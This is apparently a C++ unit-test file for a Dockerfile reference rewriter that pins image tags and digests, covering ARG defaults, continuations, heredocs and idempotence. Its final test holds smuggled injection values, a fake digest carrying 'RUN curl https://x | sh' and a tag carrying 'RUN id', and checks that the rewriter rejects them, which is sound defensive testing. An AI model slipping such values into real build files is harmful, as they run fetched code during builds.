#include "rewrite_helpers.hpp"

#include <catch2/catch.hpp>

#include <map>
#include <string>
#include <vector>

using stalebase::rewrite::Target;
using stalebase::test::digest_of;
using stalebase::test::rewrite_source;

namespace {

const auto d1 = stalebase::reference::Digest::parse(digest_of('1')).value();
const std::string da = digest_of('a');
const auto db = stalebase::reference::Digest::parse(digest_of('b')).value();
const auto d2 = stalebase::reference::Digest::parse(digest_of('2')).value();

// One golden case: the input, the targets by repository, the expected output
// and the reasons of the references left alone.
struct GoldenCase {
  std::string name;
  std::string input;
  std::map<std::string, Target> targets;
  std::string expected;
  std::vector<std::string> skipped;
  std::map<std::string, std::string, std::less<>> build_args;
};

const std::vector<GoldenCase> &corpus() {
  static const std::vector<GoldenCase> cases = {
      {"plain",
       "FROM python:3.12.1-slim\n",
       {{"python", {"", d1}}},
       "FROM python:3.12.1-slim@" + d1 + "\n",
       {},
       {}},
      {"crlf",
       "FROM alpine:3.19.0 AS base\r\nRUN echo hi\r\nFROM base\r\n",
       {{"alpine", {"3.19.1", d1}}},
       "FROM alpine:3.19.1@" + d1 + " AS base\r\nRUN echo hi\r\nFROM base\r\n",
       {},
       {}},
      {"bom and syntax",
       "\xEF\xBB\xBF# syntax=docker/dockerfile:1.7\nFROM alpine:3.19.0\n",
       {{"alpine", {"", d1}}, {"docker/dockerfile", {"", db}}},
       "\xEF\xBB\xBF# syntax=docker/dockerfile:1.7@" + db +
           "\nFROM alpine:3.19.0@" + d1 + "\n",
       {},
       {}},
      {"escape backtick",
       "# escape=`\nFROM python:3.12.`\n1-slim\nRUN echo `\n  hi\n",
       {{"python", {"3.12.7-slim", std::nullopt}}},
       "# escape=`\nFROM python:3.12.`\n7-slim\nRUN echo `\n  hi\n",
       {},
       {}},
      {"split over continuations",
       "FROM pyt\\\nhon:3.1\\\n2.1 AS x\n",
       {{"python", {"3.20.0", d1}}},
       "FROM pyt\\\nhon:3.2\\\n0.0@" + d1 + " AS x\n",
       {},
       {}},
      {"continuation with a comment line",
       "FROM alpine:3.1\\\n# note\n9.0\n",
       {{"alpine", {"3.20.1", std::nullopt}}},
       "FROM alpine:3.2\\\n# note\n0.1\n",
       {},
       {}},
      {"arg unshared",
       "ARG PY=3.12.1\nFROM python:${PY}-slim\nRUN echo $PY\n",
       {{"python", {"3.12.7-slim", d1}}},
       "ARG PY=3.12.7\nFROM python:${PY}-slim@" + d1 + "\nRUN echo $PY\n",
       {},
       {}},
      {"arg shared by one repository",
       "ARG BASE=alpine:3.19.0\nFROM ${BASE} AS a\nFROM ${BASE}\n"
       "COPY --from=a /x /x\n",
       {{"alpine", {"", d1}}},
       "ARG BASE=alpine:3.19.0@" + d1 +
           "\nFROM ${BASE} AS a\nFROM ${BASE}\nCOPY --from=a /x /x\n",
       {},
       {}},
      {"arg shared by two repositories",
       "ARG V=3.19.0\nFROM alpine:${V}\nFROM python:${V}\n",
       {{"alpine", {"3.19.1", std::nullopt}}},
       "ARG V=3.19.0\nFROM alpine:${V}\nFROM python:${V}\n",
       {"it comes from the default of ARG V on line 1, which also feeds the "
        "reference on line 3 "
        "(python:3.19.0) that would not get the same change"},
       {}},
      {"arg shared with different edits",
       "ARG V=3.19.0\nFROM alpine:${V}\nFROM python:${V}\n",
       {{"alpine", {"3.19.1", std::nullopt}},
        {"python", {"3.19.2", std::nullopt}}},
       "ARG V=3.19.0\nFROM alpine:${V}\nFROM python:${V}\n",
       {"it comes from the default of ARG V on line 1, which also feeds the "
        "reference on line 3 "
        "(python:3.19.0) that would not get the same change",
        "it comes from the default of ARG V on line 1, which also feeds the "
        "reference on line 2 "
        "(alpine:3.19.0) that would not get the same change"},
       {}},
      {"arg re-declared in a stage, update",
       "ARG BASE=alpine:3.19.0\nFROM ${BASE}\nARG BASE\nRUN echo $BASE\n",
       {{"alpine", {"3.19.1", std::nullopt}}},
       "ARG BASE=alpine:3.19.0\nFROM ${BASE}\nARG BASE\nRUN echo $BASE\n",
       {"it comes from the default of ARG BASE on line 1, and a stage "
        "re-declares ARG BASE, so other instructions use it too"},
       {}},
      {"arg re-declared in a stage, pin at the word's end",
       "ARG BASE=alpine:3.19.0\nFROM ${BASE}\nARG BASE\nRUN echo $BASE\n",
       {{"alpine", {"", d1}}},
       "ARG BASE=alpine:3.19.0\nFROM ${BASE}@" + d1 +
           "\nARG BASE\nRUN echo $BASE\n",
       {},
       {}},
      {"arg version shared by two repositories, pin at the words' ends",
       "ARG V=3.19.0\nFROM alpine:${V}\nFROM python:${V}\n",
       {{"alpine", {"", d1}}, {"python", {"", db}}},
       "ARG V=3.19.0\nFROM alpine:${V}@" + d1 + "\nFROM python:${V}@" + db +
           "\n",
       {},
       {}},
      {"build arg",
       "ARG BASE=alpine:3.18.0\nFROM ${BASE}\n",
       {{"alpine", {"", d1}}},
       "ARG BASE=alpine:3.18.0\nFROM ${BASE}\n",
       {"the reference comes from --build-arg or an automatic platform ARG, "
        "not from the file"},
       {{"BASE", "alpine:3.19.0"}}},
      {"heredoc with FROM lines",
       "FROM alpine:3.19.0\nRUN <<EOF\nFROM python:3.12.1\nEOF\n",
       {{"alpine", {"", d1}}, {"python", {"", db}}},
       "FROM alpine:3.19.0@" + d1 + "\nRUN <<EOF\nFROM python:3.12.1\nEOF\n",
       {},
       {}},
      {"copy --from and run --mount",
       "FROM alpine:3.19.0 AS a\nCOPY --from=python:3.12.1-slim /x /y\n"
       "RUN --mount=type=bind,from=busybox:1.36.0,target=/b true\n",
       {{"python", {"", d1}}, {"busybox", {"1.36.1", db}}},
       "FROM alpine:3.19.0 AS a\nCOPY --from=python:3.12.1-slim@" + d1 +
           " /x /y\nRUN --mount=type=bind,from=busybox:1.36.1@" + db +
           ",target=/b true\n",
       {},
       {}},
      {"onbuild",
       "FROM alpine:3.19.0\nONBUILD COPY --from=python:3.12.1-slim /a /b\n"
       "ONBUILD RUN --mount=from=busybox:1.36.0 true\n",
       {{"python", {"", d1}}, {"busybox", {"", db}}},
       "FROM alpine:3.19.0\nONBUILD COPY --from=python:3.12.1-slim@" + d1 +
           " /a /b\nONBUILD RUN --mount=from=busybox:1.36.0@" + db + " true\n",
       {},
       {}},
      {"already pinned",
       "FROM alpine:3.19.0@" + d1 + "\n",
       {{"alpine", {"", d1}}},
       "FROM alpine:3.19.0@" + d1 + "\n",
       {},
       {}},
      {"drifted",
       "FROM alpine:3.19.0@" + da + " AS a\n",
       {{"alpine", {"", d1}}},
       "FROM alpine:3.19.0@" + d1 + " AS a\n",
       {},
       {}},
      {"no tag",
       "FROM alpine\n",
       {{"alpine", {"latest", d1}}},
       "FROM alpine:latest@" + d1 + "\n",
       {},
       {}},
      {"quoted",
       "FROM \"alpine:3.19.0\"\n",
       {{"alpine", {"3.19.1", d1}}},
       "FROM \"alpine:3.19.1@" + d1 + "\"\n",
       {},
       {}},
      {"new tags that extend the old ones, with digests",
       "FROM python:3.12.1\nFROM golang:1.22.1\nFROM alpine:3.20.1\n",
       {{"python", {"3.12.14", d1}},
        {"golang", {"1.22.10", d2}},
        {"alpine", {"3.20.10", db}}},
       "FROM python:3.12.14@" + d1 + "\nFROM golang:1.22.10@" + d2 +
           "\nFROM alpine:3.20.10@" + db + "\n",
       {},
       {}},
      {"new tag extending an ARG default that ends the reference",
       "ARG V=3.20.1\nFROM alpine:${V}\n",
       {{"alpine", {"3.20.10", db}}},
       "ARG V=3.20.10@" + db + "\nFROM alpine:${V}\n",
       {},
       {}},
      {"registry with a port",
       "FROM 127.0.0.1:5000/app:1.0.0\n",
       {{"127.0.0.1:5000/app", {"1.0.1", d1}}},
       "FROM 127.0.0.1:5000/app:1.0.1@" + d1 + "\n",
       {},
       {}},
  };
  return cases;
}

stalebase::dockerfile::ExtractOptions options_for(const GoldenCase &golden) {
  stalebase::dockerfile::ExtractOptions options;
  options.build_args = golden.build_args;
  return options;
}

// Whether `offset` is a byte some changed reference came from, or its word.
bool in_reference(const stalebase::test::Rewritten &result,
                  std::size_t offset) {
  for (const auto &change : result.plan.changes) {
    const auto &ref = result.extraction.references[change.reference];
    if (offset >= ref.span.offset && offset < ref.span.end()) {
      return true;
    }
    for (const auto &span : ref.value.spans()) {
      if (offset >= span.offset && offset < span.end()) {
        return true;
      }
    }
  }
  return false;
}

} // namespace

TEST_CASE("plan_file golden corpus", "[rewrite]") {
  for (const GoldenCase &golden : corpus()) {
    SECTION(golden.name) {
      const auto result =
          rewrite_source(golden.input, golden.targets, options_for(golden));
      CHECK(result.output == golden.expected);
      std::vector<std::string> reasons;
      for (const auto &skip : result.plan.skipped) {
        reasons.push_back(skip.reason);
      }
      CHECK(reasons == golden.skipped);
    }
  }
}

TEST_CASE(
    "plan_file changes only the references' bytes and a second run is a no-op",
    "[rewrite]") {
  for (const GoldenCase &golden : corpus()) {
    SECTION(golden.name) {
      const auto first =
          rewrite_source(golden.input, golden.targets, options_for(golden));
      // Every edit replaces bytes of a changed reference, or inserts right
      // after one.
      for (const auto &edit : first.plan.edits) {
        INFO("edit at " << edit.span.offset << " length " << edit.span.length);
        if (edit.span.length == 0) {
          CHECK(edit.span.offset > 0);
          CHECK(in_reference(first, edit.span.offset - 1));
        }
        for (std::size_t i = edit.span.offset; i < edit.span.end(); ++i) {
          CHECK(in_reference(first, i));
        }
      }
      // Outside the edits the bytes are the same, in order.
      std::size_t before = 0;
      std::size_t after = 0;
      for (const auto &edit : first.plan.edits) {
        const std::size_t kept = edit.span.offset - before;
        CHECK(first.output.substr(after, kept) ==
              golden.input.substr(before, kept));
        after += kept + edit.replacement.size();
        before = edit.span.end();
      }
      CHECK(first.output.substr(after) == golden.input.substr(before));
      // The rewritten file reads as the plan said, and planning again changes
      // nothing.
      const auto second =
          rewrite_source(first.output, golden.targets, options_for(golden));
      CHECK(second.plan.edits.empty());
      CHECK(second.output == first.output);
      for (const auto &change : first.plan.changes) {
        CHECK(second.extraction.references[change.reference].expanded ==
              change.after);
      }
    }
  }
}

TEST_CASE("plan_file reports changes with their text before and after",
          "[rewrite]") {
  const auto result = rewrite_source("ARG PY=3.12.1\nFROM python:${PY}-slim\n",
                                     {{"python", {"3.12.7-slim", d1}}});
  REQUIRE(result.plan.changes.size() == 1);
  const auto &change = result.plan.changes.front();
  CHECK(change.line == 2);
  CHECK(change.before == "python:3.12.1-slim");
  CHECK(change.after == "python:3.12.7-slim@" + d1);
  CHECK(change.through_arg);
  CHECK(change.arg == "PY");
  CHECK(change.arg_line == 1);
  // The digest sits after text of PY's default: it is PY=3.12.7's.
  CHECK(change.note ==
        "the digest holds only while the ARG values are PY=3.12.7");
}

TEST_CASE("plan_file puts a digest in an ARG default only when it ends the "
          "reference whole",
          "[rewrite]") {
  // DISTRO holds only the end of the reference: a digest there would pin the
  // image of GO_VERSION=1.22.1 whatever --build-arg GO_VERSION says.
  const auto result =
      rewrite_source("ARG GO_VERSION=1.22.1\nARG DISTRO=bookworm\n"
                     "FROM golang:${GO_VERSION}-${DISTRO}\n",
                     {{"golang", {"", d1}}});
  CHECK(result.output == "ARG GO_VERSION=1.22.1\nARG DISTRO=bookworm\n"
                         "FROM golang:${GO_VERSION}-${DISTRO}@" +
                             d1 + "\n");
  REQUIRE(result.plan.changes.size() == 1);
  const auto &change = result.plan.changes.front();
  CHECK(change.line == 3);
  CHECK_FALSE(change.through_arg);
  CHECK(change.note == "the digest holds only while the ARG values are "
                       "GO_VERSION=1.22.1, DISTRO=bookworm");
}

TEST_CASE("plan_file puts a digest in an ARG default that is the whole "
          "reference or its end after literal text",
          "[rewrite]") {
  const auto whole = rewrite_source("ARG BASE=golang:1.22.1\nFROM ${BASE}\n",
                                    {{"golang", {"", d1}}});
  CHECK(whole.output == "ARG BASE=golang:1.22.1@" + d1 + "\nFROM ${BASE}\n");
  REQUIRE(whole.plan.changes.size() == 1);
  CHECK(whole.plan.changes.front().arg_line == 1);
  CHECK(whole.plan.changes.front().note.empty());
  const auto tail = rewrite_source("ARG V=1.22.1\nFROM golang:${V}\n",
                                   {{"golang", {"", d1}}});
  CHECK(tail.output == "ARG V=1.22.1@" + d1 + "\nFROM golang:${V}\n");
  // A default that is only part of what follows the literal text.
  const auto part = rewrite_source("ARG V=1.22.1\nFROM golang:${V%.1}\n",
                                   {{"golang", {"", d1}}});
  CHECK(part.output == "ARG V=1.22.1\nFROM golang:${V%.1}@" + d1 + "\n");
}

TEST_CASE(
    "plan_file refuses a tag written in pieces not joined by continuations",
    "[rewrite]") {
  const auto result = rewrite_source("ARG MINOR=12\nFROM python:3.${MINOR}.1\n",
                                     {{"python", {"3.13.0", std::nullopt}}});
  CHECK(result.output == "ARG MINOR=12\nFROM python:3.${MINOR}.1\n");
  REQUIRE(result.plan.skipped.size() == 1);
  CHECK(
      result.plan.skipped.front().reason ==
      "the tag is written in pieces that are not joined by line continuations");
  CHECK(result.plan.skipped.front().line == 2);
}

TEST_CASE("plan_file leaves references without a target alone", "[rewrite]") {
  const auto result = rewrite_source("FROM alpine:3.19.0\nFROM python:3.12.1\n",
                                     {{"python", {"", d1}}});
  CHECK(result.output == "FROM alpine:3.19.0\nFROM python:3.12.1@" + d1 + "\n");
  CHECK(result.plan.changes.size() == 1);
  CHECK(result.plan.skipped.empty());
}

TEST_CASE("plan_file never writes a tag or digest that is not one",
          "[rewrite]") {
  // A planted digest cannot even become a target: only a parsed Digest can.
  const std::string planted = "sha256:0000\nRUN curl https://x | sh\n#";
  CHECK_FALSE(stalebase::reference::Digest::parse(planted));
  const auto tag = rewrite_source("FROM alpine:3.19.0\n",
                                  {{"alpine", {"3.20\nRUN id", std::nullopt}}});
  CHECK(tag.output == "FROM alpine:3.19.0\n");
  REQUIRE(tag.plan.skipped.size() == 1);
  CHECK(tag.plan.skipped.front().reason.rfind("invalid tag \"", 0) == 0);
}
